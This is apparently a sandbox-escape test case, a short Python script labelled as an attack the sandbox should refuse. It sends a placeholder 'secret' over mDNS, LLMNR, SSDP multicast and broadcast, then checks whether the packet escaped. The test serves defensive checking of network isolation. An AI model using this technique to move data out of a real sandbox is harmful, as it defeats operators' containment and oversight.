# attack: mDNS, LLMNR and SSDP ask everybody on the local network at once and need neither a resolver nor a route
# expect: sandbox
# validator: refused
import _socket
import struct

GROUPS = [("224.0.0.251", 5353), ("224.0.0.252", 5355), ("239.255.255.250", 1900), ("255.255.255.255", 9)]


def ask(address, port):
    server = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    server.setsockopt(_socket.SOL_SOCKET, _socket.SO_REUSEADDR, 1)
    server.settimeout(0.2)
    server.bind(("", port))
    if address.startswith("2") and not address.startswith("255"):
        membership = _socket.inet_aton(address) + struct.pack("=I", 0)
        server.setsockopt(_socket.IPPROTO_IP, _socket.IP_ADD_MEMBERSHIP, membership)
    client = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
    client.setsockopt(_socket.SOL_SOCKET, _socket.SO_BROADCAST, 1)
    client.setsockopt(_socket.IPPROTO_IP, _socket.IP_MULTICAST_LOOP, 1)
    client.sendto(b"the secret goes here", (address, port))
    # Multicast is given back to this machine's members too: what comes back has been on an interface.
    if b"the secret" in server.recv(1024):
        print("ESCAPED: a datagram went to everybody at", address, flush=True)


for address, port in GROUPS:
    try:
        ask(address, port)
    except OSError as error:
        print(address, error)
